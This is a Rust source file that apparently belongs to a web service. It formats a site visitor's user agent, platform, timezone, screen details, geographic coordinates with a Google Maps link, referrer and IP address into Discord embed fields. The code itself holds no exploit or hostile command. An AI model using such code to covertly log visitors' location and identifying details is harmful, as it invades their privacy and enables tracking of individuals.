use crate::notifications::EmbedField;
use crate::payload::{truthy, Device, InboundPayload, Location, LocationReport, Page};
use axum::http::HeaderMap;
use serde_json::Value;
use std::net::IpAddr;

/// Discord rejects long field values, keep well below its limit.
pub const MAX_FIELD_CHARS: usize = 900;
pub const TRUNCATION_MARKER: char = '…';
pub const PLACEHOLDER: &str = "—";
pub const UNKNOWN_CLIENT: &str = "unknown";
pub const FORWARDED_FOR: &str = "x-forwarded-for";

/// Renders an optional JSON value as field text: strings verbatim, anything
/// else in its JSON form, and the placeholder when absent.
pub fn display_value(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => PLACEHOLDER.to_string(),
        Some(value) => truncate(&raw_text(value)),
    }
}

/// Cuts text to [`MAX_FIELD_CHARS`] characters, appending the truncation marker
/// when anything was dropped.
pub fn truncate(text: &str) -> String {
    match text.char_indices().nth(MAX_FIELD_CHARS) {
        Some((cut, _)) => {
            let mut truncated = text[..cut].to_string();
            truncated.push(TRUNCATION_MARKER);
            truncated
        }
        None => text.to_string(),
    }
}

fn raw_text(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        Value::Number(n) => number_text(n),
        other => other.to_string(),
    }
}

/// Whole floats print without a fraction, the way the browser would show them.
fn number_text(n: &serde_json::Number) -> String {
    match n.as_f64() {
        Some(f) if n.is_f64() && f == 0.0 => "0".to_string(),
        Some(f) if n.is_f64() && f.fract() == 0.0 && f.abs() < 1e21 => format!("{:.0}", f),
        _ => n.to_string(),
    }
}

/// Best-effort address of the caller: the first `X-Forwarded-For` hop, then the
/// transport peer, then `unknown`.
pub fn client_address(headers: &HeaderMap, peer: Option<IpAddr>) -> String {
    let forwarded = headers
        .get(FORWARDED_FOR)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.split(',').next())
        .map(str::trim)
        .filter(|v| !v.is_empty());

    match (forwarded, peer) {
        (Some(ip), _) => ip.to_string(),
        (None, Some(peer)) => peer.to_string(),
        (None, None) => UNKNOWN_CLIENT.to_string(),
    }
}

/// Builds the embed fields for a visitor payload, in display order.
///
/// Device, location and page sections appear only when present in the payload,
/// except that a missing location is reported explicitly. The client address
/// is always the last field.
pub fn build_fields(payload: &InboundPayload, client: &str) -> Vec<EmbedField> {
    let mut fields = Vec::new();

    if let Some(device) = &payload.device {
        fields.extend(device_fields(device));
    }

    match &payload.location {
        Some(location) => fields.extend(location_fields(location)),
        None => fields.push(EmbedField::new("Location", "Not provided".to_string(), false)),
    }

    if let Some(page) = &payload.page {
        fields.extend(page_fields(page));
    }

    fields.push(EmbedField::new("Client IP", truncate(client), false));

    fields
}

fn device_fields(device: &Device) -> Vec<EmbedField> {
    let screen = device.screen.as_ref();
    let screen = format!(
        "{}×{} @{}x",
        display_value(screen.and_then(|s| s.width.as_ref())),
        display_value(screen.and_then(|s| s.height.as_ref())),
        display_value(screen.and_then(|s| s.pixel_ratio.as_ref())),
    );

    vec![
        EmbedField::new("User Agent", display_value(device.user_agent.as_ref()), false),
        EmbedField::new("Platform", display_value(device.platform.as_ref()), true),
        EmbedField::new("Language", display_value(device.language.as_ref()), true),
        EmbedField::new("Timezone", display_value(device.timezone.as_ref()), true),
        EmbedField::new("Screen", truncate(&screen), true),
        EmbedField::new("Cookies Enabled", display_value(device.cookies_enabled.as_ref()), true),
    ]
}

fn location_fields(location: &Location) -> Vec<EmbedField> {
    match location.report() {
        LocationReport::Acquired(coords) => {
            let latitude = display_value(coords.latitude.as_ref());
            let longitude = display_value(coords.longitude.as_ref());
            let accuracy = match &coords.accuracy {
                None | Some(Value::Null) => "n/a".to_string(),
                Some(accuracy) => display_value(Some(accuracy)),
            };
            let maps = truncate(&format!("https://maps.google.com/?q={},{}", latitude, longitude));

            vec![
                EmbedField::new("Latitude", latitude, true),
                EmbedField::new("Longitude", longitude, true),
                EmbedField::new("Accuracy (m)", accuracy, true),
                EmbedField::new("Maps", maps, false),
            ]
        }
        LocationReport::Unavailable { reason } => {
            let value = format!("Not available ({})", display_value(reason));
            vec![EmbedField::new("Location", truncate(&value), false)]
        }
    }
}

fn page_fields(page: &Page) -> Vec<EmbedField> {
    let referrer = page.referrer.as_ref().filter(|r| truthy(r));

    vec![
        EmbedField::new("Page URL", display_value(page.url.as_ref()), false),
        EmbedField::new("Referrer", display_value(referrer), false),
    ]
}
